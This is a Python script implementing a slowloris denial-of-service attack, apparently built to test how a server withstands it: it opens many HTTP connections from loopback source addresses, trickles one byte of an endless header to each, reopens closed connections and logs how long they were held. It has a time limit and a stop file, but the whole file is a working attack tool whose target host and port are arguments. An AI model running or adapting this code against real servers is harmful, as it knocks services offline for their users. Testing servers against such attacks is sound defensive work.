#!/usr/bin/python3
"""A bounded slowloris for tests: hold COUNT connections to HOST:PORT open by
sending one byte of an endless request header every INTERVAL seconds.

Usage: slowloris.py HOST PORT COUNT SOURCES INTERVAL SECONDS STATUS

SOURCES is the loopback source addresses to spread the connections over,
round robin: "127.0.0.1", or "127.1.0.1+110" for 110 addresses from
127.1.0.1 up.  A connection the server closes is opened again at the next
round, as an attacker would.  It stops by itself after SECONDS, or as soon as
the file STATUS.stop exists.  After each round STATUS holds one JSON object:
rounds, held (connections open that have sent a byte), attempts, and the
longest time a connection that kept trickling was held before the server
closed it (held_max_closed, seconds).
"""
import errno
import ipaddress
import json
import os
import resource
import socket
import sys
import time

HEADER = b"GET / HTTP/1.1\r\nHost: x\r\nX-Trickle: " + b"a" * 1000000


def sources(spec):
    if "+" not in spec:
        return [spec]
    first, n = spec.split("+")
    base = ipaddress.IPv4Address(first)
    return [str(base + i) for i in range(int(n))]


class Conn:
    def __init__(self, src, host, port):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setblocking(False)
        self.sock.bind((src, 0))
        self.sock.connect_ex((host, port))
        self.sent = 0
        self.first = None  # when the first byte went out

    def alive(self):
        """False once the server has closed or reset the connection."""
        try:
            if self.sock.recv(1, socket.MSG_PEEK) == b"":
                return False
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True

    def trickle(self):
        try:
            n = self.sock.send(HEADER[self.sent:self.sent + 1])
        except (BlockingIOError, InterruptedError):
            return True  # not connected yet, or a full window
        except OSError:
            return False
        if n == 1:
            if self.first is None:
                self.first = time.monotonic()
            self.sent += 1
        return True

    def close(self):
        self.sock.close()


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    srcs = sources(sys.argv[4])
    interval, seconds = float(sys.argv[5]), float(sys.argv[6])
    status = sys.argv[7]
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < count + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 64),
                                                    hard))
    conns = [None] * count
    end = time.monotonic() + seconds
    rounds = attempts = 0
    held_max = 0.0
    while time.monotonic() < end and not os.path.exists(status + ".stop"):
        for i in range(count):
            c = conns[i]
            if c is not None and not (c.alive() and c.trickle()):
                if c.first is not None and c.sent > 1:
                    held_max = max(held_max, time.monotonic() - c.first)
                c.close()
                c = conns[i] = None
            if c is None:
                try:
                    c = conns[i] = Conn(srcs[i % len(srcs)], host, port)
                    attempts += 1
                    c.trickle()
                except OSError as e:
                    if e.errno not in (errno.EADDRNOTAVAIL, errno.EMFILE):
                        raise
        rounds += 1
        held = sum(1 for c in conns if c is not None and c.first is not None)
        tmp = status + ".tmp"
        with open(tmp, "w") as f:
            json.dump({"rounds": rounds, "held": held, "attempts": attempts,
                       "held_max_closed": round(held_max, 1)}, f)
        os.rename(tmp, status)
        pause = min(interval, end - time.monotonic())
        if pause > 0:
            time.sleep(pause)
    for c in conns:
        if c is not None:
            c.close()


if __name__ == "__main__":
    main()
